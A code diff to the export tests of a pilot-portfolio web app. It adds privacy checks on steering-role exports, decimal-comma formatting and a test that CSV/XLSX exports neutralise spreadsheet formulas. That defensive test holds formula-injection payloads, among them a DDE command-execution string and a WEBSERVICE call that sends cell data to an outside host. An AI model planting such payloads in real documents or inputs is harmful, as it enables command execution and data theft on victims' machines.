@@ -26,6 +26,8 @@ async def test_portfolio_exports(client: httpx.AsyncClient, auth: Auth) -> None:
     first = await approved_pilot(client, pm, "Front desk, shared")
     await create_pilot(client, pm, "Still an idea")
     rows = _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=auth("steering")))
+    assert "owner_id" not in rows[0]  # steering: no person ids in any export
+    assert "owner_id" in _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=pm))[0]
     assert [(r["title"], r["stage"], r["counts_toward_rule"]) for r in rows] == [
         ("Front desk, shared", "approved", "true"),
         ("Still an idea", "idea", "false"),
@@ -36,7 +38,7 @@ async def test_portfolio_exports(client: httpx.AsyncClient, auth: Auth) -> None:
     xlsx = await client.get(f"/projects/{PROJECT}/portfolio/export", params={"format": "xlsx"}, headers=pm)
     assert xlsx.headers["content-disposition"].startswith("attachment;")
     book = load_workbook(io.BytesIO(xlsx.content))
-    assert book.sheetnames == ["portfolio", "summary"]
+    assert book.sheetnames == ["portfolio", "decisions", "summary"]
     pilots = list(book["portfolio"].iter_rows(values_only=True))
     assert pilots[1][:4] == (first["id"], "Front desk, shared", "approved", True)
     summary = dict(book["summary"].iter_rows(min_row=2, values_only=True))
@@ -50,7 +52,7 @@ async def test_portfolio_exports(client: httpx.AsyncClient, auth: Auth) -> None:
 
 async def test_pilot_record_exports(client: httpx.AsyncClient, auth: Auth) -> None:
     owner = auth("pilot_owner", subject=OWNER)
-    pilot = await approved_pilot(client, owner, "Recorded")
+    pilot = await approved_pilot(client, auth("project_manager"), "Recorded", owner_id=OWNER)
     ind = await add_indicator(
         client,
         owner,
@@ -83,14 +85,29 @@ async def test_pilot_record_exports(client: httpx.AsyncClient, auth: Auth) -> No
     history = [r["value"] for r in rows if r["section"] == "stage_history" and r["field"] == "to_stage"]
     assert history == ["idea", "planned", "approved"]
     values = [r["value"] for r in rows if r["section"] == "measurements" and r["field"] == "value"]
-    assert values == ["4.5", "4.8"]
+    assert values == ["4,5", "4,8"]  # Finnish Excel: decimal comma
     assert [r["value"] for r in rows if r["section"] == "timeline" and r["field"] == "text"] == [
         "Survey done"
     ]
 
     steering = _csv(await client.get(url, headers=auth("steering")))
     assert [r["value"] for r in steering if r["section"] == "measurements" and r["field"] == "value"] == [
-        "4.5"
+        "4,5"
+    ]
+    # steering: no person ids and no person-written text in any section
+    for field in (
+        "owner_id",
+        "need",
+        "author_id",
+        "text",
+        "actor",
+        "reason",
+        "narrative",
+        "hypothesis.action",
+    ):
+        assert not [r for r in steering if r["field"] == field], field
+    assert [r["value"] for r in steering if r["section"] == "timeline" and r["field"] == "posted_on"] == [
+        "2.3.2021"
     ]
 
     book = load_workbook(
@@ -101,6 +118,8 @@ async def test_pilot_record_exports(client: httpx.AsyncClient, auth: Auth) -> No
         "indicators",
         "measurements",
         "stage_history",
+        "decisions",
+        "reflections",
         "frozen_changes",
         "timeline",
         "establishments",
@@ -115,3 +134,41 @@ async def test_pilot_record_exports(client: httpx.AsyncClient, auth: Auth) -> No
     )
     measurements = list(book["measurements"].iter_rows(values_only=True))
     assert [m[4] for m in measurements[1:]] == [4.5, 4.8]
+
+
+async def test_exports_carry_no_live_formula(client: httpx.AsyncClient, auth: Auth) -> None:
+    """Issue 10: user text starting with =, +, -, @ comes out as inert text in every export."""
+    import zipfile
+
+    pm = auth("project_manager")
+    title = "=cmd|' /C calc'!A0"
+    pilot = await create_pilot(client, pm, title, need="+SUM(1,2)")
+    await client.post(
+        f"/pilots/{pilot['id']}/timeline", json={"text": '=WEBSERVICE("http://x/?"&A1)'}, headers=pm
+    )
+    ind = await add_indicator(client, pm, pilot["id"], name="@SUM(A1:A9)")
+    await client.post(
+        f"/pilots/{pilot['id']}/measurements",
+        json={"indicator_id": ind["id"], "measured_on": "2021-01-04", "value": 12, "narrative": "-2+3"},
+        headers=pm,
+    )
+    urls = [
+        f"/pilots/{pilot['id']}/export",
+        f"/pilots/{pilot['id']}/measurements/export",
+        f"/projects/{PROJECT}/portfolio/export",
+        f"/projects/{PROJECT}/learning/export",
+    ]
+    for url in urls:
+        text = (await client.get(url, headers=pm)).content.decode("utf-8-sig")
+        for cell in (title, "+SUM(1,2)", '=WEBSERVICE("http://x/?"&A1)', "@SUM(A1:A9)", "-2+3"):
+            for line in text.splitlines():
+                for value in next(csv.reader([line], delimiter=";")):
+                    assert value != cell, (url, cell)  # never the bare formula
+        xlsx = await client.get(url, params={"format": "xlsx"}, headers=pm)
+        assert xlsx.status_code == 200
+        with zipfile.ZipFile(io.BytesIO(xlsx.content)) as z:
+            for name in z.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in z.read(name), (url, name)
+    rows = _csv(await client.get(f"/projects/{PROJECT}/portfolio/export", headers=pm))
+    assert rows[0]["title"] == "'" + title
